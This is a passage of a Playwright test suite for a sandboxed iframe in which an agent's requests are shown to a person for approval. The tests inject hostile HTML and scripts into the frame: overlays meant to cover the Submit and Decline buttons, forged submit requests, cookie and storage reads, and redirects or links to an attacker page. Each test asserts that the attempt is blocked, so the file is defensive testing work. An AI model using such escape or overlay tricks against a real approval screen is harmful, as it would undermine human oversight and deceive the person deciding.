  await expect(theirs).toHaveValue('bcd');
  await expect(note).toHaveValue('a');
  await expect(page.locator('iframe')).toHaveAttribute('sandbox', 'allow-scripts');
  await expect(page.getByRole('note')).toHaveCount(0);
});

for (const width of [1280, 390]) {
  test(`the buttons stay outside of the frame and in sight at ${width}`, async ({ approval, page }) => {
    await page.setViewportSize({ width, height: 800 });
    const cover = `<style>
        html, body { position: fixed; inset: -9999px; z-index: 2147483647; background: red; overflow: visible }
        div { position: fixed; inset: -5000px; width: 20000px; height: 20000px; background: red; z-index: 2147483647 }
        dialog { width: 20000px; height: 20000px; margin: -5000px }
      </style>
      <div popover>over</div><dialog>over</dialog>`;
    const raise = `document.querySelector('dialog').showModal();
      document.querySelector('[popover]').showPopover();
      parent.postMessage(300, '*');
      return 'raised'`;
    const started = `<script>setTimeout(async () => { ${raise} })</script>`;
    const review = await approval(shown(armed([['Go', raise]], cover + started)));
    await expect(review.document.locator('dialog')).toHaveAttribute('open', '');
    const box = (await page.locator('iframe').boundingBox())!;
    for (const name of ['Submit', 'Decline']) {
      const button = review.button(name);
      await button.scrollIntoViewIfNeeded();
      const top = await button.evaluate((button) => {
        const { x, y, width, height } = button.getBoundingClientRect();
        return document.elementFromPoint(x + width / 2, y + height / 2)?.closest('button') === button;
      });
      expect(top, name).toBe(true);
      const { y } = (await button.boundingBox())!;
      const frame = (await page.locator('iframe').boundingBox())!;
      expect(y, name).toBeGreaterThanOrEqual(frame.y + frame.height);
    }
    // Side by side: however the frame moves them, neither comes where the other was.
    const submit = await review.button('Submit').boundingBox();
    const decline = await review.button('Decline').boundingBox();
    expect(submit!.y).toBe(decline!.y);
    expect(box.x + box.width).toBeLessThanOrEqual(width);
    await unharmed(review);
  });
}

/** What opening a frame's address directly allows its script. */
const direct: [...Try, ends: string | RegExp][] = [
  ['its origin', `return origin`, 'null'],
  ['a page around it', `return parent === self && !opener && frameElement === null`, 'true'],
  ['the referrer', `return '<' + document.referrer + '>'`, '<>'],
  ['cookies', `return document.cookie`, 'SecurityError'],
  ['localStorage', `return localStorage.length`, 'SecurityError'],
  ['indexedDB', `indexedDB.open('a')`, 'SecurityError'],
  ['deciding', `await fetch('/api/submit', { method: 'POST' })`, 'TypeError'],
  ['a service worker', `await navigator.serviceWorker.register('/icon.svg')`, 'SecurityError'],
  ['a worker', worker(`URL.createObjectURL(new Blob(['postMessage(1)']))`), 'error'],
  ['a blank window', `return open('about:blank')`, 'null'],
  ['alert', `return alert('a')`, 'undefined'],
  ['a download', click(`{ href: 'data:text/plain,a', download: 'a.txt' }`), 'clicked'],
  ['deciding by a form', submit(`{ action: '/api/submit', method: 'post' }`), 'submitted'],
  ['writing to the clipboard', `await navigator.clipboard.writeText('a')`, 'NotAllowedError'],
  ['fullscreen', `await document.body.requestFullscreen()`, 'TypeError'],
];

test('opened directly, a document is as harmless', async ({ agent, attacker, context, noticed, page, server }) => {
  await context.grantPermissions(TRUSTED, { origin: server.url });
  const tries = [...direct.map(([name, script]): Try => [name, script]), ...errand(attacker)];
  const { elicitationId } = await agent.ask(shown(armed(tries, beacon(attacker))));
  const address = `${server.url}/frame/display?elicitationId=${elicitationId}`;
  await page.goto(address);
  await expect(page.locator('.beacon')).toHaveCount(Object.keys(beacons).length);
  const sent: string[] = [];
  page.on('request', (request) => sent.push(request.url()));
  const away = Object.entries(errands).map(([name, [, ends]]) => [name, ends] as const);
  for (const [name, ends] of [...direct.map(([name, , ends]) => [name, ends] as const), ...away]) {
    await attempt(page, name, ends);
    expect.soft(noticed, name).toEqual([]);
    expect.soft(attacker.heard, name).toEqual([]);
  }
  expect(sent.filter((url) => url.startsWith(server.url))).toEqual([]);
  expect(page.url().replace(/#.*/, '')).toBe(address);
  expect(await agent.status(elicitationId)).toBe('pending');
});

test('opened directly, a document steers its tab to nobody', async ({ agent, attacker, page, server }) => {
  const { elicitationId } = await agent.ask(shown(armed([['Go', `location = '${attacker.url}'`]])));
  await page.goto(`${server.url}/frame/display?elicitationId=${elicitationId}`);
  await page.getByRole('button', { name: 'Go' }).click();
  await expect.poll(() => page.url()).toBe('chrome-error://chromewebdata/');
});

test('a frame and its document say the same', async ({ agent, page, server }) => {
  const { elicitationId, reviewUrl } = await agent.ask(shown('<p>a</p>'));
  await page.goto(reviewUrl);
  const frame = page.locator('iframe');
  expect(await frame.getAttribute('sandbox')).toBe('allow-scripts');
  expect(await frame.evaluate((frame) => frame.getAttributeNames().toSorted())).toEqual([
    'class',
    'sandbox',
    'src',
    'style',
    'title',
  ]);

  const address = new URL((await frame.getAttribute('src'))!, server.url);
  expect(address.pathname).toBe('/frame/display');
  expect([...address.searchParams]).toEqual([
    ['elicitationId', elicitationId],
    ['v', expect.stringMatching(/^[0-9a-f]{16}$/)],
  ]);
  const unversioned = new URL(`/frame/display?elicitationId=${elicitationId}`, server.url);
  const outdated = new URL(`${unversioned}&v=0123456789abcdef`);
  for (const [url, keep] of [
    [address, 'private, max-age=31536000, immutable'],
    [unversioned, 'private, no-cache'],
    [outdated, 'private, no-cache'],
  ] as const) {
    const { status, headers } = await fetch(url);
    expect(status).toBe(200);
    expect(headers.get('content-security-policy')).toBe(
      "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; " +
        "img-src data:; connect-src 'none'; form-action 'none'; base-uri 'none'; frame-ancestors 'self'",
    );
    expect(headers.get('connection-allowlist')).toBe('()');
    expect(headers.get('content-type')).toBe('text/html; charset=utf-8');
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('referrer-policy')).toBe('no-referrer');
    expect(headers.get('x-dns-prefetch-control')).toBe('off');
    expect(headers.get('cross-origin-resource-policy')).toBe('same-origin');
    expect(headers.get('permissions-policy')).toMatch(/^([\w-]+=\(\)(, |$))+$/);
    expect(headers.get('cache-control')).toBe(keep);
    expect(headers.get('set-cookie')).toBeNull();
  }
});

test('a decent document is shown without a word on the console', async ({ approval, page }) => {
  const said: string[] = [];
  page.on('console', (message) => said.push(message.text()));
  const picture = '<img alt="" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">';
  const script = "<script>document.body.append('c')</script>";
  const review = await approval(shown(`<p>a</p>${picture}<a href="#a">b</a>${script}`));
  await review.document.getByRole('link').click();
  await expect.poll(() => height(page)).toBeGreaterThan(24);
  await unharmed(review);
  expect(said).toEqual([]);
});

test('a frame is dark where the page is', async ({ approval, page }) => {
  const review = await approval(shown('<p>a</p>'));
  for (const [colorScheme, background] of [
    ['light', 'rgb(255, 255, 255)'],
    ['dark', 'rgb(22, 25, 30)'],
  ] as const) {
    await page.emulateMedia({ colorScheme });
    for (const element of [review.document.locator('html'), page.locator('iframe')]) {
      await expect(element).toHaveCSS('background-color', background);
    }
  }
});

test('a link shows its address and leads nowhere', async ({ approval, attacker, noticed, page }) => {
  const review = await approval(
    shown(
      `<p id="top">Top</p><a href="${attacker.url}/plain">Plain</a>
      <a href="${attacker.url}/blank" target="_blank">Blank</a>
      <a href="${attacker.url}/top" target="_top">Whole</a> <a href="/review">Own</a> <a href="#top">Inside</a>
      <a href="javascript:document.body.remove()">Script</a> <a href="data:text/plain,a" download>Data</a>`,
    ),
  );
  const frame = page.frames()[1]!;
  const before = frame.url();
  const link = (name: string) => review.document.getByRole('link', { name: new RegExp(`^${name}`) });
  for (const name of ['Plain', 'Blank', 'Whole', 'Own', 'Script', 'Data']) await link(name).click();
  await link('Plain').click({ modifiers: ['ControlOrMeta'] });
  await link('Plain').click({ modifiers: ['Shift'] });
  await link('Plain').click({ button: 'middle' });
  for (const name of ['plain', 'blank', 'top']) {
    const told = await review.document
      .locator(`a[href$="/${name}"]`)
      .evaluate((link) => getComputedStyle(link, '::after').content);
    expect(told).toBe(`" (${attacker.url}/${name})"`);
  }
  expect(frame.url()).toBe(before);
  await link('Inside').click();
  await expect.poll(() => frame.url()).toBe(`${before}#top`);
  expect(noticed).toEqual([]);
  await unharmed(review);
});

/** The height that the page gives to the frame. */
function height(page: Page): Promise<number> {
  return page.locator('iframe').first().evaluate((frame) => parseFloat(frame.style.height));
}

/** Has the frame tell this height, and sees it taken. */
async function setHeight(page: Page, told: number): Promise<void> {
  await page.frames()[1]!.evaluate((told) => parent.postMessage(told, '*'), told);
  await expect.poll(() => height(page)).toBe(told);
}

/** Has the page keep account of all messages that it gets from now on. */
async function listen(page: Page): Promise<() => Promise<unknown[]>> {
  const heard = await page.evaluateHandle(() => {
    const heard: unknown[] = [];
    addEventListener('message', ({ data }) => heard.push(typeof data === 'bigint' ? String(data) : data));
    return heard;
  });
  return () => heard.jsonValue();
}

/** Lets the page draw twice. */
function drawn(page: Page): Promise<void> {
  return page.evaluate(() => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(() => drawn()))));
}
